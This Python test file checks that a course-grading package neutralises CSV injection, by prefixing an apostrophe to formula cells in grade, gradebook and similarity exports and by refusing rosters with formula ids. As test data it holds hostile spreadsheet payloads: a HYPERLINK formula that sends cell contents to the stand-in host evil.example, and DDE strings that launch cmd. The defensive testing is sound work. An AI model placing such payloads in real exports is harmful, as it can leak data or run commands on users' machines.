"""Spreadsheet formulas in the CSV files this package writes (OWASP's CSV injection): every writer
goes through one function (coursegrader/core/spreadsheet.py), a text cell that a spreadsheet
would run gets a leading apostrophe, numbers (-5) and ids stay exactly as they are, and a roster
whose id, email, login or Canvas id would be a formula is refused (those cells must reach the LMS
unchanged). Hostile roster fields, messages and ids on every file: grades.csv, misconceptions.csv,
similarity.csv, canvas.csv, moodle.csv, roster-mismatch.csv."""

import ast
import csv
import io
import shutil
from pathlib import Path

import pytest

from helpers import ASSIGNMENT, ROOT, package_grade
from coursegrader.classroom import gradebook, similarity
from coursegrader.core.assignment import Question
from coursegrader.classroom.misconceptions import Misconception, misconceptions_csv
from coursegrader.core.results import Graded, grades_csv
from coursegrader.core.spreadsheet import FORMULA_STARTS, csv_text, needs_guard, safe_cell

PACKAGE = ROOT / "coursegrader"
# what students may put in an LMS profile (a display name, a section) and what other fields may hold
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"成绩")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|'/C calc'!A0",
            "\t=1+1", "\r=1+1", "=1+1", "-", "@"]
QUESTIONS = [Question("w1", 1, False, ("test_w1",)), Question("e1c", 2, True)]


def formula_cells(text: str) -> list[str]:
    """The cells of a CSV text a spreadsheet would run as a formula."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row if needs_guard(cell)]


def cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}


@pytest.mark.parametrize("value, written", [
    *[(text, "'" + text.replace("\r", "\n")) for text in FORMULAS],
    ("x\r=1+1", "x\n=1+1"), ("a\r\n@b", "a\n@b"),  # a carriage return inside: never a row of its own
    ("-5", "-5"), ("+3.5", "+3.5"), ("-0.25", "-0.25"), ("1e-3", "1e-3"), ("-1E+5", "-1E+5"),  # numbers: as they are
    ("20260001", "20260001"), ("0042", "0042"), ("zhang@example.edu", "zhang@example.edu"), ("张三", "张三"),
    ("a=b", "a=b"), (" =1", " =1"), ("", ""), (None, ""), (3, "3"), (-2.5, "-2.5"),
])
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe_and_nothing_else_changes(value, written):
    assert safe_cell(value) == written
    assert not formula_cells(csv_text([[value]]))
    assert next(csv.reader(io.StringIO(csv_text([[value]]), newline=""))) == [written]


def test_every_csv_the_package_writes_goes_through_the_one_writer():
    """No module but spreadsheet.py makes a csv writer, so a new file cannot skip the guard."""
    writers = []
    for path in PACKAGE.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") \
                    and isinstance(node.value, ast.Name) and node.value.id == "csv":
                writers.append(path.relative_to(PACKAGE).as_posix())
    assert writers == ["core/spreadsheet.py"]
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")


def test_grades_misconceptions_and_similarity_files_neutralise_formulas(tmp_path):
    rows = [Graded(text, "ok", scores={"w1": -0.0}, message=text) for text in FORMULAS]
    hostile_written = {"'" + text.replace("\r", "\n") for text in FORMULAS}
    written = grades_csv(rows, QUESTIONS)
    assert not formula_cells(written) and hostile_written <= cells(written)
    assert "-0" in cells(written) or "0" in cells(written)  # a score stays a number
    found = [Misconception(text, text, 1, 2, 0.5, text, "") for text in FORMULAS]
    written = misconceptions_csv(found)
    assert not formula_cells(written) and hostile_written <= cells(written)
    pairs = [similarity.Pair(text, text, text, 0.9, 12, 0.1, 0.55, ([], [])) for text in FORMULAS]
    similarity._write_csv(pairs, tmp_path / "similarity.csv")
    written = (tmp_path / "similarity.csv").read_text(encoding="utf-8")
    assert not formula_cells(written) and hostile_written <= cells(written)


def hostile_roster(path: Path) -> Path:
    """Students whose names and sections are formulas; ids, emails and logins an LMS may hold,
    a plain negative number among them."""
    lines = ["student id,name,email,login,section"]
    lines += [f'{20260001 + i},"{text.replace(chr(34), chr(34) * 2)}",s{i}@example.edu,login{i},"{text.replace(chr(34), chr(34) * 2)}"'
              for i, text in enumerate(FORMULAS) if text.strip()]
    lines.append("-5,负五,minus@example.edu,-7,@section")  # an id and a login that are plain numbers
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_the_gradebook_files_neutralise_roster_fields_and_keep_every_id(tmp_path):
    roster = gradebook.read_roster(hostile_roster(tmp_path / "roster.csv"))
    graded = [Graded(s.id, "ok", scores={"w1": 1.0}, total=1.0) for s in roster[:3]] + [Graded("=walk-in", "ok")]
    book = gradebook.build(roster, graded, QUESTIONS)
    files = gradebook.write(book, tmp_path, "=HYPERLINK(\"x\")")
    assert [f.name for f in files] == ["canvas.csv", "moodle.csv", "roster-mismatch.csv"]
    for path in files:
        text = path.read_text(encoding="utf-8-sig")
        assert not formula_cells(text), path.name
        ids = {s.id for s in roster} | {s.email for s in roster}
        assert ids & cells(text), path.name
    canvas = list(csv.DictReader(io.StringIO((tmp_path / "canvas.csv").read_text(encoding="utf-8"))))
    assert [row["SIS User ID"] for row in canvas[1:]] == [s.id for s in roster]  # exactly as the roster has them
    assert canvas[-1]["SIS User ID"] == "-5" and canvas[-1]["SIS Login ID"] == "-7" and canvas[-1]["Section"] == "'@section"
    assert {row["Student"] for row in canvas[1:]} >= {"'" + text.strip() for text in FORMULAS if text.strip() != "-"}
    moodle = list(csv.DictReader(io.StringIO((tmp_path / "moodle.csv").read_text(encoding="utf-8"))))
    assert [(row["ID number"], row["Email address"]) for row in moodle] == [(s.id, s.email) for s in roster]
    assert list(moodle[0])[2] == "'=HYPERLINK(\"x\")"  # the grade column's name too
    mismatch = (tmp_path / "roster-mismatch.csv").read_text(encoding="utf-8-sig")
    assert "'=walk-in" in cells(mismatch) and "'" + FORMULAS[3] in cells(mismatch)  # a student without a submission


@pytest.mark.parametrize("row, column", [
    ('=1+1,张三,zhang@example.edu,zl,A', "student id"),
    ('20260001,张三,=cmd@evil.example,zl,A', "email"),
    ('20260001,张三,zhang@example.edu,+zl,A', "login"),
    ('20260001,张三,zhang@example.edu,@zl,A', "login"),
    ('"\t-1+1",张三,zhang@example.edu,zl,A', "student id"),  # a spreadsheet strips the tab: still a formula
])
def test_a_roster_id_a_spreadsheet_would_run_is_refused_naming_line_and_column(tmp_path, row, column):
    path = tmp_path / "roster.csv"
    path.write_text(f"student id,name,email,login,section\n20260009,李四,li@example.edu,ls,A\n{row}\n", encoding="utf-8")
    with pytest.raises(gradebook.GradebookError) as error:
        gradebook.read_roster(path)
    (problem,) = error.value.problems
    assert f"roster {path} line 3: {column} starts with =, +, -, @" in problem and "correct it in the roster" in problem


def test_a_canvas_export_whose_canvas_id_is_a_formula_is_refused(tmp_path):
    path = tmp_path / "export.csv"
    path.write_text("Student,ID,SIS User ID,SIS Login ID,Section\n张三,=1+2,20260001,zl,A\n", encoding="utf-8")
    with pytest.raises(gradebook.GradebookError, match=r"line 2: ID starts with"):
        gradebook.read_roster(path)


@pytest.mark.slow  # one real batch, about 15 s
def test_the_grade_command_writes_no_formula_into_any_file(course, tmp_path):
    """`grade` with a hostile roster: grades.csv, misconceptions.csv, similarity.csv, canvas.csv,
    moodle.csv and roster-mismatch.csv hold no cell a spreadsheet would run, and every id is the
    roster's."""
    folder = tmp_path / "class"
    folder.mkdir()
    for index in range(2):
        shutil.copy(course.release(ASSIGNMENT), folder / f"{20260001 + index}.ipynb")
    shutil.copy(course.samples(ASSIGNMENT) / "partial_credit.ipynb", folder / "=walk-in+1.ipynb")
    roster = hostile_roster(tmp_path / "roster.csv")
    out = tmp_path / "grades"
    package_grade([folder], out, "--roster", str(roster), "--gradebook-column", "@grade")
    names = ["grades.csv", "misconceptions.csv", "similarity.csv", "canvas.csv", "moodle.csv", "roster-mismatch.csv"]
    for name in names:
        text = (out / name).read_text(encoding="utf-8-sig")
        assert not formula_cells(text), name
    canvas = (out / "canvas.csv").read_text(encoding="utf-8")
    assert {s.id for s in gradebook.read_roster(roster)} <= cells(canvas)
    assert "'" + FORMULAS[0] in cells(canvas) and "'@grade" in cells(canvas)
    grades = list(csv.DictReader(io.StringIO((out / "grades.csv").read_text(encoding="utf-8"))))
    assert {row["submission"] for row in grades} == {"20260001", "20260002", "_=walk-in+1"}
